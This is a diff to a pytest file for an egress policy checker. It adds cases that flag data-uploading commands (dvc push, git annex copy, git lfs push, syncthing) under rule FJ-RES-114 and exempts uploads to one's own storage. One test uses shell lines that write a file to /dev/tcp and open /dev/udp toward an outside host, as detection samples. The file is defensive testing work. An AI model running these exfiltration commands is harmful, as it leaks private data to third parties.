@@ -33,7 +33,8 @@ def runs(command: str, **env: str) -> Given:
     "huggingface-cli upload someone/model /data", "hf upload someone/model .", "wandb sync /runs", "npm publish",
     "python -c 'model.push_to_hub(\"someone/m\")'", "python train.py --push_to_hub", "twine upload dist/x",
     "python -c 'import wandb; wandb.init(project=\"x\")'", "gh gist create /data/rows.csv", "croc send /data",
-    "kaggle datasets version -p /data -m x", "python t.py --report_to wandb",
+    "kaggle datasets version -p /data -m x", "python t.py --report_to wandb", "dvc add rows && dvc push -r partner",
+    "git annex copy rows --to partner", "git lfs push origin main", "syncthing serve --no-browser",
 ])  # fmt: skip
 def test_a_program_with_a_built_in_address_is_refused(command: str) -> None:
     assert refused(runs(command)) == {"FJ-RES-114"}
@@ -44,9 +45,23 @@ def test_a_program_with_a_built_in_address_is_refused(command: str) -> None:
     runs("python -c 'import wandb; wandb.init()'", WANDB_BASE_URL="https://wandb.example.ae"),
     runs("python t.py --report_to wandb", WANDB_MODE="offline"), runs("npm ci && npm test"),
     runs("twine upload --repository-url https://packages.example.ae dist/x"), runs("gh release download v1"),
+    runs("dvc remote add -d own s3://awsuae-data/dvc && dvc push"), runs("dvc pull && git annex get rows"),
 ], ids=str)  # fmt: skip
 def test_downloads_and_servers_of_ones_own_pass(given: Given) -> None:
     assert refused(given) == set()
+
+
+@pytest.mark.parametrize(("image", "is_refused"), [
+    ("registry.example.ae/tools/syncthing:2.0.10", True), ("registry.example.ae/tools/sync@sha256:1", False),
+])  # fmt: skip
+def test_images_of_programs_that_only_send_are_refused(image: str, *, is_refused: bool) -> None:
+    assert ("FJ-RES-114" in refused(workload("apps/v1:Deployment", {"image": image}))) is is_refused
+
+
+@pytest.mark.parametrize("text", ["cat r > /dev/tcp/collector-app.io/443", "exec 3<>/dev/udp/collector-app.io/53"])
+def test_a_device_of_a_shell_is_an_address(text: str) -> None:
+    assert [item.name for item in named_in(text)] == ["collector-app.io"]
+    assert named_in("ls /dev/tcp /dev/shm/rows.csv") == ()
 
 
 def test_options_in_a_list_are_read() -> None:
